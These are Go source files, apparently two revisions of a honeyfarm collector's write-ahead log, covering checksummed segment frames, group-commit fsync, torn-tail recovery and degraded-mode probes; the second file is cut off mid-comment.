	seg.GoodBytes = off
	seg.TornBytes = seg.Bytes - off
	seg.Torn = seg.TornBytes > 0
	return batches, nil
}

// decodeMeta validates a segment's leading meta-frame payload against
// the segment's name and sequence and an already-established epoch (a
// zero established epoch adopts the recorded one; the returned epoch is
// the established one either way), and returns the batch codec the
// segment declares. intact is false when the payload is not a decodable
// meta frame — damaged bytes the caller treats as a torn tail. err
// reports format, sequence or epoch mismatches: those frames decoded
// fine, so the damage is corruption, not a tear.
func decodeMeta(payload []byte, name string, seq uint64, established time.Time) (epoch time.Time, format string, intact bool, err error) {
	var meta metaBody
	if len(payload) == 0 || payload[0] != kindMeta || json.Unmarshal(payload[1:], &meta) != nil {
		return time.Time{}, "", false, nil
	}
	if meta.Format != FormatName && meta.Format != FormatNameV2 {
		return time.Time{}, "", false, fmt.Errorf("wal: segment %s has unknown format %q", name, meta.Format)
	}
	if meta.Segment != seq {
		return time.Time{}, "", false, fmt.Errorf("wal: segment %s records sequence %d", name, meta.Segment)
	}
	if established.IsZero() {
		return meta.Epoch, meta.Format, true, nil
	}
	if !meta.Epoch.Equal(established) {
		return time.Time{}, "", false, fmt.Errorf("wal: segment %s epoch %s does not match %s", name, meta.Epoch, established)
	}
	return established, meta.Format, true, nil
}

// decodeGap recognizes and decodes a gap-frame payload. isGap reports
// the kind byte matched; intact whether the JSON body decoded.
func decodeGap(payload []byte) (g Gap, isGap, intact bool) {
	if len(payload) == 0 || payload[0] != kindGap {
		return Gap{}, false, false
	}
	if json.Unmarshal(payload[1:], &g) != nil {
		return Gap{}, true, false
	}
	return g, true, true
}

// decodeBatch decodes a batch-frame payload with the segment's codec.
// intact is false for an unknown frame kind or an undecodable body.
func decodeBatch(payload []byte, format string) (Batch, bool) {
	if format == FormatNameV2 {
		return decodeBatchV2(payload)
	}
	if len(payload) == 0 || payload[0] != kindBatch {
		return Batch{}, false
	}
	var body batchBody
	if err := json.Unmarshal(payload[1:], &body); err != nil {
		return Batch{}, false
	}
	return Batch{Tag: body.Tag, Records: body.Records}, true
}

// encodeBatchFrame builds a complete batch frame for the given format
// into b (which holds a reserved header, see getFrameBuilder). The kind
// byte and body are appended directly to the frame buffer — no
// intermediate payload copy in either format.
func encodeBatchFrame(b *wire.Builder, format string, tag uint64, recs []*honeypot.SessionRecord) error {
	b.Byte(kindBatch)
	if format == FormatNameV2 {
		encodeBatchV2(b, tag, recs)
		return nil
	}
	body, err := json.Marshal(batchBody{Tag: tag, Records: recs})
	if err != nil {
		return fmt.Errorf("wal: encoding batch: %w", err)
	}
	b.Raw(body)
	return nil
}

// nextFrame validates the frame at off and returns its payload and the
// next offset. ok is false when the remaining bytes do not hold one
// intact frame (short header, short payload, CRC mismatch, or an
// implausible length).
func nextFrame(data []byte, off int64) (payload []byte, next int64, ok bool) {
	rest := data[off:]
	if len(rest) < frameHeaderSize {
		return nil, 0, false
	}
	n := binary.LittleEndian.Uint32(rest[0:4])
	sum := binary.LittleEndian.Uint32(rest[4:8])
	if n == 0 || int64(n) > int64(len(rest))-frameHeaderSize {
		return nil, 0, false
	}
	payload = rest[frameHeaderSize : frameHeaderSize+int64(n)]
	if crc32.Checksum(payload, castagnoli) != sum {
		return nil, 0, false
	}
	return payload, off + frameHeaderSize + int64(n), true
}

// Dir returns the WAL directory.
func (l *Log) Dir() string { return l.dir }

// Epoch returns the store epoch the log records.
func (l *Log) Epoch() time.Time { return l.opts.Epoch }

// Health returns a snapshot of the degraded-mode state machine.
func (l *Log) Health() Health {
	l.mu.Lock()
	defer l.mu.Unlock()
	h := l.health
	h.Degraded = l.degraded != nil
	if h.Degraded {
		h.Reason = l.degraded.Error()
	}
	return h
}

// Append durably logs one batch of records under tag 0. It satisfies
// store.DurableSink.
func (l *Log) Append(recs []*honeypot.SessionRecord) error {
	return l.AppendTagged(0, recs)
}

// AppendTagged logs one batch under the given tag (the generation
// checkpoint tags batches with their shard index). The frame is written
// atomically with respect to recovery: either the whole batch replays
// or none of it does. A group commit is requested once SyncEvery
// records have accumulated since the last one; the fsync itself runs on
// the committer goroutine, overlapping this caller's (and the next
// caller's) encode work.
//
// While degraded, the batch is counted and dropped and the error wraps
// ErrDegraded; recovery probes run on the schedule Options.ProbeEvery
// describes, and a successful probe appends the triggering batch to the
// fresh segment as if nothing happened.
func (l *Log) AppendTagged(tag uint64, recs []*honeypot.SessionRecord) error {
	// Encode outside the lock into a pooled frame buffer: this is the
	// half of the pipeline that overlaps the committer's fsync.
	b := getFrameBuilder()
	defer putFrameBuilder(b)
	format := l.formatHint()
	if err := encodeBatchFrame(b, format, tag, recs); err != nil {
		return err
	}

	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return fmt.Errorf("wal: log is closed")
	}
	if l.degraded != nil {
		if !l.tryRecoverLocked() {
			l.dropLocked(len(recs))
			return fmt.Errorf("%w (batch of %d records dropped): %w", ErrDegraded, len(recs), l.degraded)
		}
	}
	if l.format != format {
		// A rotation between the hint and the lock switched codecs (at
		// most once per log lifetime, on a v1→v2 upgrade — or a recovery
		// probe just rolled a fresh segment in the configured format);
		// re-encode for the segment the frame will actually land in.
		b.Reset()
		var hdr [frameHeaderSize]byte
		b.Raw(hdr[:])
		if err := encodeBatchFrame(b, l.format, tag, recs); err != nil {
			return err
		}
	}
	frame := finishFrame(b)
	if err := l.appendFrameLocked(frame); err != nil {
		l.dropLocked(len(recs))
		return err
	}
	l.health.Appends++
	l.health.AppendedRecords += len(recs)
	l.pending += len(recs)
	if l.pending >= l.opts.SyncEvery {
		if err := l.requestSyncLocked(); err != nil {
			// The frame was written but its durability is now unknown;
			// callers treat this as a failed persist (a conservative
			// over-count — recovery may still replay the batch).
			return err
		}
	}
	if l.size >= l.opts.SegmentBytes {
		if err := l.rotateLocked(); err != nil {
			return err
		}
	}
	return nil
}

// appendFrameLocked writes one finished frame to the current segment
// with the bounded transient-error retry. On any failure the partially
// written bytes are truncated away first, so the segment stays
// frame-aligned whether the next step is a retry or degraded mode.
func (l *Log) appendFrameLocked(frame []byte) error {
	var werr error
	for attempt := 0; attempt < l.opts.RetryAttempts; attempt++ {
		if attempt > 0 {
			time.Sleep(l.opts.RetryPlan.Backoff(0, attempt-1))
		}
		n, err := l.f.Write(frame)
		if err == nil && n == len(frame) {
			l.size += int64(len(frame))
			return nil
		}
		if err == nil {
			err = io.ErrShortWrite
		}
		werr = err
		if n > 0 {
			if rerr := l.rollbackTailLocked(); rerr != nil {
				// The segment may hold a partial frame we cannot remove;
				// degrade now — the recovery probe re-seals by truncating
				// through a fresh handle.
				l.enterDegradedLocked("append rollback", rerr, false)
				return l.degradedErrLocked()
			}
		}
		if !iofault.Transient(err) {
			break
		}
	}
	l.enterDegradedLocked("append", werr, false)
	return l.degradedErrLocked()
}

// rollbackTailLocked restores the current segment to its last
// frame-aligned size after a failed or short write, repositioning the
// handle for the next append.
func (l *Log) rollbackTailLocked() error {
	if err := l.f.Truncate(l.size); err != nil {
		return err
	}
	_, err := l.f.Seek(l.size, io.SeekStart)
	return err
}

// dropLocked counts one dropped batch.
func (l *Log) dropLocked(records int) {
	l.health.DroppedBatches++
	l.health.DroppedRecords += records
	l.outageB++
	l.outageR += records
}

// errnoClass folds an error onto a short, deterministic label for gap
// frames — no paths, no timestamps, so identically seeded runs write
// byte-identical segments.
func errnoClass(err error) string {
	switch {
	case errors.Is(err, syscall.ENOSPC):
		return "enospc"
	case errors.Is(err, syscall.EIO):
		return "eio"
	case errors.Is(err, io.ErrShortWrite):
		return "short write"
	default:
		return "io failure"
	}
}

// enterDegradedLocked opens an outage: records the cause, and seals the
// current segment best-effort at its frame-aligned size (collecting any
// in-flight group commit first) so readers that see a successor later
// never find a torn middle segment. sealed tells the state machine the
// segment is already sealed (rotation paths close it before failing).
// Re-entry while already degraded only updates nothing — the first
// cause wins, matching store.Store's sticky DurableErr.
func (l *Log) enterDegradedLocked(stage string, cause error, sealed bool) {
	if l.degraded != nil {
		return
	}
	l.degraded = fmt.Errorf("wal: %s: %w", stage, cause)
	l.reason = stage + ": " + errnoClass(cause)
	l.health.Outages++
	l.sinceProbe = 0
	l.outageB, l.outageR = 0, 0
	if l.syncInFlight {
		// The committer still holds the handle; collect its verdict
		// before touching the file. The first cause wins (recorded
		// above), so the verdict itself no longer matters.
		if err := <-l.syncDone; err != nil {
			// Already degraded; nothing further to record.
		}
		l.syncInFlight = false
	}
	l.oldSealed = sealed
	if l.f == nil {
		return
	}
	if !sealed {
		if l.rollbackTailLocked() == nil && l.f.Sync() == nil {
			l.oldSealed = true
		}
	}
	// Close whether or not the seal landed: degraded mode never writes
	// through this handle again, and the probe re-seals via a fresh one
	// (a failed close after a clean sync cannot un-sync the data).
	if err := l.f.Close(); err != nil {
		// Abandoned handle; see above.
	}
	l.f = nil
}

// degradedErrLocked is the error every refused operation returns while
// degraded: the ErrDegraded sentinel wrapping the original cause.
func (l *Log) degradedErrLocked() error {
	return fmt.Errorf("%w: %w", ErrDegraded, l.degraded)
}

// tryRecoverLocked runs the degraded-mode probe schedule: the first
// dropped append probes immediately, then every ProbeEvery-th. Reports
// whether the log recovered and is ready to append.
func (l *Log) tryRecoverLocked() bool {
	probe := l.sinceProbe == 0
	l.sinceProbe = (l.sinceProbe + 1) % l.opts.ProbeEvery
	if !probe {
		return false
	}
	return l.probeLocked() == nil
}

// probeLocked attempts recovery from degraded mode: finish sealing the
// pre-outage segment if needed, roll a fresh successor, and open it
// with a meta frame followed by a gap frame recording the outage. Any
// failure leaves the log degraded with segment numbering contiguous —
// a half-created successor is removed (or, failing that, removed by
// the next probe before its O_EXCL create).
func (l *Log) probeLocked() error {
	if !l.oldSealed {
		if err := l.sealOldLocked(); err != nil {
			return err
		}
	}
	seq := l.seq + 1
	path := filepath.Join(l.dir, segmentName(seq))
	f, err := l.fs.OpenFile(path, os.O_RDWR|os.O_CREATE|os.O_EXCL, 0o644)
	if errors.Is(err, iofs.ErrExist) {
		// Leftover from an earlier probe that died between create and
		// meta; clear it so the numbering stays contiguous.
		if rerr := l.fs.Remove(path); rerr != nil {
			return rerr
		}
		f, err = l.fs.OpenFile(path, os.O_RDWR|os.O_CREATE|os.O_EXCL, 0o644)
	}
	if err != nil {
		return err
	}
	prevSeq, prevSize, prevFormat := l.seq, l.size, l.format
	l.f, l.seq, l.size, l.format = f, seq, 0, l.opts.Format
	gap := Gap{Reason: l.reason, Batches: l.outageB, Records: l.outageR}
	werr := l.writeMetaLocked()
	if werr == nil {
		werr = l.writeGapLocked(gap)
	}
	return l.finishProbeLocked(werr, path, prevSeq, prevSize, prevFormat)
}

// finishProbeLocked commits or rolls back the probe's fresh segment.
func (l *Log) finishProbeLocked(err error, path string, prevSeq uint64, prevSize int64, prevFormat string) error {
	if err != nil {
		l.f.Close()
		if rerr := l.fs.Remove(path); rerr != nil {
			// Leftover half-created successor; the next probe clears it
			// via the O_EXCL+Remove path before re-creating.
		}
		l.f, l.seq, l.size, l.format = nil, prevSeq, prevSize, prevFormat
		return err
	}
	l.degraded = nil
	l.reason = ""
	l.health.Recoveries++
	l.outageB, l.outageR = 0, 0
	l.oldSealed = false
	l.pending = 0
	return nil
}

// sealOldLocked finishes sealing the pre-outage segment through a fresh
// handle: truncate to the frame-aligned size, fsync, close. Only then
// may a successor exist (the torn-tail rule).
func (l *Log) sealOldLocked() error {
	f, err := l.fs.OpenFile(filepath.Join(l.dir, segmentName(l.seq)), os.O_RDWR, 0o644)
	if err != nil {
		return err
	}
	serr := f.Truncate(l.size)
	if serr == nil {
		serr = f.Sync()
	}
	if cerr := f.Close(); serr == nil {
		serr = cerr
	}
	if serr != nil {
		return serr
	}
	l.oldSealed = true
	return nil
}

// writeGapLocked appends and fsyncs one gap frame. Like the meta frame
// it is JSON in every segment format.
func (l *Log) writeGapLocked(g Gap) error {
	body, err := json.Marshal(g)
	if err != nil {
		return fmt.Errorf("wal: encoding gap: %w", err)
	}
	b := getFrameBuilder()
	defer putFrameBuilder(b)
	b.Byte(kindGap)
	b.Raw(body)
	frame := finishFrame(b)
	if _, err := l.f.Write(frame); err != nil {
		return fmt.Errorf("wal: writing gap frame: %w", err)
	}
	if err := l.f.Sync(); err != nil {
		return fmt.Errorf("wal: syncing gap frame: %w", err)
	}
	l.size += int64(len(frame))
	return nil
}

// formatHint reads the current segment's codec for the out-of-lock
// encode. It is only a hint: AppendTagged re-checks under the lock.
func (l *Log) formatHint() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.format
}

// committer is the group-commit goroutine: it performs every
// asynchronous fsync so appenders can encode the next group while the
// previous one reaches disk. It is driven purely by the count-based
// requests — there is no timer anywhere in the commit path.
func (l *Log) committer() {
	defer close(l.committerDone)
	for f := range l.syncReq {
		l.syncDone <- f.Sync()
	}
}

// waitSyncLocked collects the outstanding asynchronous fsync, if any.
// A failed group commit degrades the log — retrying an fsync that
// already failed gives no durability guarantee back — and the degraded
// error is returned here and by every later Append/Sync/Close. Every
// path that closes, rotates, or syncs the current segment file waits
// here first, so the committer never touches a file descriptor that
// has been handed off or closed.
func (l *Log) waitSyncLocked() error {
	if l.syncInFlight {
		err := <-l.syncDone
		l.syncInFlight = false
		if err != nil {
			l.enterDegradedLocked("group commit fsync", err, false)
		} else {
			l.health.Fsyncs++
		}
	}
	if l.degraded != nil {
		return l.degradedErrLocked()
	}
	return nil
}

// requestSyncLocked hands the current segment to the committer. The
// pipeline is one deep: group N+1 is encoded and written while group N
// syncs, and a request first waits out its predecessor.
func (l *Log) requestSyncLocked() error {
	if err := l.waitSyncLocked(); err != nil {
		return err
	}
	l.syncReq <- l.f
	l.syncInFlight = true
	l.pending = 0
	return nil
}

// pendingRecords returns the records appended since the last group
// commit was requested — the group-commit policy's observable state
// (used by tests).
func (l *Log) pendingRecords() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.pending
}

// Sync forces a synchronous fsync of the current segment regardless of
// the group-commit counter, after collecting any in-flight group.
func (l *Log) Sync() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return fmt.Errorf("wal: log is closed")
	}
	if l.degraded != nil {
		return l.degradedErrLocked()
	}
	if err := l.waitSyncLocked(); err != nil {
		return err
	}
	if err := l.f.Sync(); err != nil {
		l.enterDegradedLocked("sync", err, false)
		return l.degradedErrLocked()
	}
	l.health.Fsyncs++
	l.pending = 0
	return nil
}

// Close syncs and closes the log, stopping the committer goroutine.
// The directory remains valid for a later Open. A degraded log reports
// its outage cause, matching Append and Sync.
func (l *Log) Close() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return nil
	}
	l.closed = true
	werr := l.waitSyncLocked()
	close(l.syncReq)
	<-l.committerDone
	if werr != nil || l.degraded != nil {
		if l.f != nil {
			l.f.Close()
			l.f = nil
		}
		if werr != nil {
			return werr
		}
		return l.degradedErrLocked()
	}
	if err := l.f.Sync(); err != nil {
		l.f.Close()
		l.f = nil
		return fmt.Errorf("wal: sync on close: %w", err)
	}
	l.health.Fsyncs++
	err := l.f.Close()
	l.f = nil
	return err
}

// rotateLocked seals the current segment (fsync + close) and opens the
// next one. Sealing before the successor exists is what confines torn
// tails to the final segment; any in-flight group commit is collected
// first so the seal covers every written frame.
func (l *Log) rotateLocked() error {
	if err := l.waitSyncLocked(); err != nil {
		return err
	}
	if err := l.f.Sync(); err != nil {
		l.enterDegradedLocked("sync before rotation", err, false)
		return l.degradedErrLocked()
	}
	l.health.Fsyncs++
	if err := l.f.Close(); err != nil {
		// The data is durable (the sync above landed); only the handle is
		// in doubt. Degrade with the segment considered sealed.
		l.f = nil
		l.enterDegradedLocked("closing segment", err, true)
		return l.degradedErrLocked()
	}
	l.pending = 0
	if err := l.rollLocked(l.seq + 1); err != nil {
		// rollLocked cleaned up after itself: l.f is nil and
		// seq/size/format point at the sealed predecessor. Record the
		// failure and let the probe schedule roll the successor.
		l.enterDegradedLocked("rotation", err, true)
		return l.degradedErrLocked()
	}
	return nil
}

// rollLocked opens segment seq for appending and writes its meta frame.
// New segments always use the configured codec. Creation retries
// transient errors on the append path's backoff policy. On failure the
// partial segment file is removed and the log's position restored, so
// segment numbering stays contiguous.
func (l *Log) rollLocked(seq uint64) error {
	path := filepath.Join(l.dir, segmentName(seq))
	var f iofault.File
	var err error
	for attempt := 0; attempt < l.opts.RetryAttempts; attempt++ {
		if attempt > 0 {
			time.Sleep(l.opts.RetryPlan.Backoff(0, attempt-1))
		}
		f, err = l.fs.OpenFile(path, os.O_RDWR|os.O_CREATE|os.O_EXCL, 0o644)
		if err == nil || !iofault.Transient(err) {
			break
		}
	}
	if err != nil {
		return fmt.Errorf("wal: creating segment: %w", err)
	}
	prevSeq, prevSize, prevFormat := l.seq, l.size, l.format
	l.f, l.seq, l.size, l.format = f, seq, 0, l.opts.Format
	if err := l.writeMetaLocked(); err != nil {
		f.Close()
		if rerr := l.fs.Remove(path); rerr != nil {
			// Leftover half-created segment; a later probe clears it
			// before re-creating.
		}
		l.f, l.seq, l.size, l.format = nil, prevSeq, prevSize, prevFormat
		return err
	}
	return nil
}

// writeMetaLocked writes (and syncs) the current segment's meta frame,
// declaring the segment's batch codec.
func (l *Log) writeMetaLocked() error {
	body, err := json.Marshal(metaBody{Format: l.format, Segment: l.seq, Epoch: l.opts.Epoch})
	if err != nil {
		return fmt.Errorf("wal: encoding meta: %w", err)
	}
	b := getFrameBuilder()
	defer putFrameBuilder(b)
	b.Byte(kindMeta)
	b.Raw(body)
	frame := finishFrame(b)
	if _, err := l.f.Write(frame); err != nil {
		return fmt.Errorf("wal: writing meta frame: %w", err)
	}
	if err := l.f.Sync(); err != nil {
		return fmt.Errorf("wal: syncing meta frame: %w", err)
	}
	l.size += int64(len(frame))
	return nil
}
