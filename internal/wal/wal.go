// Package wal implements the collector's segmented, append-only
// write-ahead log. The paper's honeyfarm survived 15 months of
// continuous ingest; this package is the durability layer that lets our
// collector do the same: session-record batches are framed, checksummed
// and appended to segment files, fsynced in deterministic record-count
// groups, and recovered after a crash by scanning the segments,
// truncating the torn tail frame, and replaying every intact frame.
//
// On-disk layout: a WAL directory holds segment files named
// wal-<seq>.seg. Each segment starts with a meta frame carrying the
// format name, the segment sequence number and the store epoch; batch
// frames follow. A frame is
//
//	uint32 LE  payload length n
//	uint32 LE  CRC-32C (Castagnoli) of the payload
//	n bytes    payload: 1 kind byte + JSON body
//
// Appends go to the highest segment; when it exceeds the configured
// byte threshold it is fsynced, closed, and a new segment is opened.
// Because a segment is only ever succeeded after a full sync, a crash
// can tear at most the tail of the final segment — the recovery
// invariant the torn-tail rule and the crash-at-every-offset property
// test depend on.
package wal

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/store"
)

// FormatName identifies the WAL on-disk format.
const FormatName = "honeyfarm-wal-v1"

// Frame kinds (first payload byte).
const (
	kindMeta  = 1 // segment header: format, sequence, epoch
	kindBatch = 2 // session-record batch
)

// frameHeaderSize is the fixed prefix of every frame: length + CRC.
const frameHeaderSize = 8

// castagnoli is the CRC-32C table used by every frame checksum.
var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// Options tunes a log. The zero value selects the defaults.
type Options struct {
	// Epoch is the store epoch recorded in segment meta frames and used
	// to replay recovered records. Required when the directory has no
	// recoverable meta frame; must match the recorded epoch otherwise
	// (zero means "use whatever is recorded").
	Epoch time.Time
	// SegmentBytes rotates to a new segment once the current one reaches
	// this size (default 8 MiB).
	SegmentBytes int64
	// SyncEvery is the group-commit policy: fsync after this many
	// appended records (default 512). It is a record count, not a timer,
	// so the flush schedule is a deterministic function of the append
	// stream. 1 syncs every append.
	SyncEvery int
}

func (o Options) withDefaults() Options {
	if o.SegmentBytes <= 0 {
		o.SegmentBytes = 8 << 20
	}
	if o.SyncEvery <= 0 {
		o.SyncEvery = 512
	}
	return o
}

// Batch is one recovered record batch. Tag carries the caller's label
// (the generation checkpoint stores shard indexes there; plain durable
// sinks use 0).
type Batch struct {
	Tag     uint64
	Records []*honeypot.SessionRecord
}

// batchBody is the JSON body of a batch frame.
type batchBody struct {
	Tag     uint64                    `json:"tag"`
	Records []*honeypot.SessionRecord `json:"records"`
}

// metaBody is the JSON body of a segment meta frame.
type metaBody struct {
	Format  string    `json:"format"`
	Segment uint64    `json:"segment"`
	Epoch   time.Time `json:"epoch"`
}

// SegmentStat is one segment's recovery/verification summary.
type SegmentStat struct {
	// Name is the segment file name within the WAL directory.
	Name string
	// Seq is the segment sequence number parsed from the name.
	Seq uint64
	// Frames and Records count the intact batch frames and the records
	// they carry (the meta frame is not counted).
	Frames  int
	Records int
	// Bytes is the file size; GoodBytes the prefix covered by intact
	// frames (including the meta frame); TornBytes the difference.
	Bytes     int64
	GoodBytes int64
	TornBytes int64
	// Torn reports a torn or corrupt tail. On the final segment this is
	// the expected crash artifact; on any earlier segment it is
	// corruption (Open refuses it, fsck -repair truncates it).
	Torn bool
}

// Recovery reports what Open (or Verify) found in a WAL directory.
type Recovery struct {
	// Epoch is the store epoch recorded in the segments (or the Options
	// epoch for a fresh directory).
	Epoch time.Time
	// Batches are the intact batch frames in append order.
	Batches []Batch
	// Segments holds per-segment frame/checksum stats in sequence order.
	Segments []SegmentStat
	// TornBytes is the total tail bytes truncated during recovery.
	TornBytes int64
}

// Records counts the recovered records across all batches.
func (r *Recovery) Records() int {
	n := 0
	for _, b := range r.Batches {
		n += len(b.Records)
	}
	return n
}

// Replay builds a store from the recovered batches.
func (r *Recovery) Replay() *store.Store {
	s := store.New(r.Epoch)
	for _, b := range r.Batches {
		s.AddBatch(b.Records)
	}
	return s
}

// Log is an open write-ahead log. All methods are safe for concurrent
// use; concurrent Appends serialize, so the frame order is the
// serialization order.
type Log struct {
	dir  string
	opts Options

	mu      sync.Mutex
	f       *os.File // current segment
	seq     uint64   // current segment sequence number
	size    int64    // current segment size
	pending int      // records appended since the last fsync
	closed  bool
}

// segmentName formats the file name of segment seq.
func segmentName(seq uint64) string { return fmt.Sprintf("wal-%08d.seg", seq) }

// parseSegmentName extracts the sequence number from a segment name.
func parseSegmentName(name string) (uint64, bool) {
	if !strings.HasPrefix(name, "wal-") || !strings.HasSuffix(name, ".seg") {
		return 0, false
	}
	var seq uint64
	_, err := fmt.Sscanf(name, "wal-%d.seg", &seq)
	return seq, err == nil
}

// listSegments returns the directory's segment files in sequence order.
func listSegments(dir string) ([]SegmentStat, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var segs []SegmentStat
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		seq, ok := parseSegmentName(e.Name())
		if !ok {
			continue
		}
		info, err := e.Info()
		if err != nil {
			return nil, err
		}
		segs = append(segs, SegmentStat{Name: e.Name(), Seq: seq, Bytes: info.Size()})
	}
	sort.Slice(segs, func(i, j int) bool { return segs[i].Seq < segs[j].Seq })
	return segs, nil
}

// Open opens (creating if necessary) the WAL in dir, recovers its
// contents, truncates any torn tail frame on the final segment, and
// positions the log for appending. A torn or corrupt frame on a
// non-final segment is refused — completed segments were fsynced before
// their successor existed, so damage there is corruption, not a crash
// artifact; use Repair to salvage the intact prefix.
func Open(dir string, opts Options) (*Log, *Recovery, error) {
	opts = opts.withDefaults()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, nil, fmt.Errorf("wal: creating %s: %w", dir, err)
	}
	rec, err := scan(dir, opts.Epoch, true)
	if err != nil {
		return nil, nil, err
	}
	l := &Log{dir: dir, opts: opts}
	l.opts.Epoch = rec.Epoch

	if n := len(rec.Segments); n > 0 {
		last := &rec.Segments[n-1]
		f, err := os.OpenFile(filepath.Join(dir, last.Name), os.O_RDWR, 0o644)
		if err != nil {
			return nil, nil, fmt.Errorf("wal: opening segment: %w", err)
		}
		// Truncate the torn tail so appends continue from the last intact
		// frame; recovery already dropped those bytes from the stats.
		if err := f.Truncate(last.GoodBytes); err != nil {
			f.Close()
			return nil, nil, fmt.Errorf("wal: truncating torn tail: %w", err)
		}
		if _, err := f.Seek(last.GoodBytes, io.SeekStart); err != nil {
			f.Close()
			return nil, nil, fmt.Errorf("wal: seeking segment end: %w", err)
		}
		l.f, l.seq, l.size = f, last.Seq, last.GoodBytes
		// A fully torn final segment lost even its meta frame; rewrite it
		// so the segment stands alone again.
		if l.size == 0 {
			if err := l.writeMetaLocked(); err != nil {
				f.Close()
				return nil, nil, err
			}
		}
	} else {
		if err := l.rollLocked(1); err != nil {
			return nil, nil, err
		}
	}
	return l, rec, nil
}

// scan reads every segment, validating frames. truncating selects Open
// semantics (torn tail allowed on the final segment only); Verify and
// Repair pass false to collect stats for damaged middles too.
func scan(dir string, epoch time.Time, truncating bool) (*Recovery, error) {
	segs, err := listSegments(dir)
	if err != nil {
		return nil, fmt.Errorf("wal: listing %s: %w", dir, err)
	}
	rec := &Recovery{Epoch: epoch}
	for i := range segs {
		seg := &segs[i]
		batches, err := scanSegment(dir, seg, rec)
		if err != nil {
			return nil, err
		}
		if seg.Torn && truncating && i != len(segs)-1 {
			return nil, fmt.Errorf("wal: segment %s has a corrupt frame %d bytes in but is not the final segment; run fsck -repair to truncate it", seg.Name, seg.GoodBytes)
		}
		rec.Batches = append(rec.Batches, batches...)
		rec.TornBytes += seg.TornBytes
	}
	rec.Segments = segs
	// An epoch is established by Options.Epoch or any intact meta frame;
	// without either (fresh directory, or every meta frame torn) the log
	// cannot replay into a store.
	if rec.Epoch.IsZero() {
		return nil, fmt.Errorf("wal: directory %s has no recoverable epoch; supply Options.Epoch", dir)
	}
	return rec, nil
}

// scanSegment walks one segment's frames, filling seg's counters and
// returning its intact batches. The first frame must be a meta frame
// whose format and sequence match; an epoch mismatch against an already
// established epoch is an error, a zero established epoch adopts the
// recorded one.
func scanSegment(dir string, seg *SegmentStat, rec *Recovery) ([]Batch, error) {
	data, err := os.ReadFile(filepath.Join(dir, seg.Name))
	if err != nil {
		return nil, fmt.Errorf("wal: reading segment: %w", err)
	}
	var batches []Batch
	off := int64(0)
	first := true
	// Each intact frame advances off by at least frameHeaderSize, so the
	// scan is bounded by the segment length.
	for off < int64(len(data)) {
		payload, next, ok := nextFrame(data, off)
		if !ok {
			break
		}
		if first {
			epoch, intact, err := decodeMeta(payload, seg.Name, seg.Seq, rec.Epoch)
			if err != nil {
				return nil, err
			}
			if !intact {
				break // damaged meta frame: treat as torn at offset 0
			}
			rec.Epoch = epoch
			first = false
			off = next
			continue
		}
		b, intact := decodeBatch(payload)
		if !intact {
			break // unknown kind or undecodable body: stop at the last understood frame
		}
		batches = append(batches, b)
		seg.Frames++
		seg.Records += len(b.Records)
		off = next
	}
	seg.GoodBytes = off
	seg.TornBytes = seg.Bytes - off
	seg.Torn = seg.TornBytes > 0
	return batches, nil
}

// decodeMeta validates a segment's leading meta-frame payload against
// the segment's name and sequence and an already-established epoch (a
// zero established epoch adopts the recorded one; the returned epoch is
// the established one either way). intact is false when the payload is
// not a decodable meta frame — damaged bytes the caller treats as a
// torn tail. err reports format, sequence or epoch mismatches: those
// frames decoded fine, so the damage is corruption, not a tear.
func decodeMeta(payload []byte, name string, seq uint64, established time.Time) (epoch time.Time, intact bool, err error) {
	var meta metaBody
	if len(payload) == 0 || payload[0] != kindMeta || json.Unmarshal(payload[1:], &meta) != nil {
		return time.Time{}, false, nil
	}
	if meta.Format != FormatName {
		return time.Time{}, false, fmt.Errorf("wal: segment %s has unknown format %q", name, meta.Format)
	}
	if meta.Segment != seq {
		return time.Time{}, false, fmt.Errorf("wal: segment %s records sequence %d", name, meta.Segment)
	}
	if established.IsZero() {
		return meta.Epoch, true, nil
	}
	if !meta.Epoch.Equal(established) {
		return time.Time{}, false, fmt.Errorf("wal: segment %s epoch %s does not match %s", name, meta.Epoch, established)
	}
	return established, true, nil
}

// decodeBatch decodes a batch-frame payload. intact is false for an
// unknown frame kind or an undecodable body.
func decodeBatch(payload []byte) (Batch, bool) {
	if len(payload) == 0 || payload[0] != kindBatch {
		return Batch{}, false
	}
	var body batchBody
	if err := json.Unmarshal(payload[1:], &body); err != nil {
		return Batch{}, false
	}
	return Batch{Tag: body.Tag, Records: body.Records}, true
}

// nextFrame validates the frame at off and returns its payload and the
// next offset. ok is false when the remaining bytes do not hold one
// intact frame (short header, short payload, CRC mismatch, or an
// implausible length).
func nextFrame(data []byte, off int64) (payload []byte, next int64, ok bool) {
	rest := data[off:]
	if len(rest) < frameHeaderSize {
		return nil, 0, false
	}
	n := binary.LittleEndian.Uint32(rest[0:4])
	sum := binary.LittleEndian.Uint32(rest[4:8])
	if n == 0 || int64(n) > int64(len(rest))-frameHeaderSize {
		return nil, 0, false
	}
	payload = rest[frameHeaderSize : frameHeaderSize+int64(n)]
	if crc32.Checksum(payload, castagnoli) != sum {
		return nil, 0, false
	}
	return payload, off + frameHeaderSize + int64(n), true
}

// appendFrame encodes one frame around payload.
func appendFrame(buf []byte, payload []byte) []byte {
	var hdr [frameHeaderSize]byte
	binary.LittleEndian.PutUint32(hdr[0:4], uint32(len(payload)))
	binary.LittleEndian.PutUint32(hdr[4:8], crc32.Checksum(payload, castagnoli))
	return append(append(buf, hdr[:]...), payload...)
}

// Dir returns the WAL directory.
func (l *Log) Dir() string { return l.dir }

// Epoch returns the store epoch the log records.
func (l *Log) Epoch() time.Time { return l.opts.Epoch }

// Append durably logs one batch of records under tag 0. It satisfies
// store.DurableSink.
func (l *Log) Append(recs []*honeypot.SessionRecord) error {
	return l.AppendTagged(0, recs)
}

// AppendTagged logs one batch under the given tag (the generation
// checkpoint tags batches with their shard index). The frame is written
// atomically with respect to recovery: either the whole batch replays
// or none of it does. The write is fsynced once SyncEvery records have
// accumulated since the last sync.
